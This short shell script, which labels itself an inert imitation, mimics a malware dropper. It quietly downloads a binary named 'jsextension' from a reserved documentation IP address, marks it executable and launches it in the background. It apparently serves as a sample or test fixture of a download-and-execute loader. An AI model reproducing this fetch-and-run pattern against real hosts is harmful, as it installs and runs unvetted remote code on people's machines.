#!/bin/sh
# Inert imitation: TEST-NET-2 address, placeholder file name.
curl -s http://198.51.100.228/download/jsextension -o jsextension
chmod +x ./jsextension
./jsextension -k --placeholder &
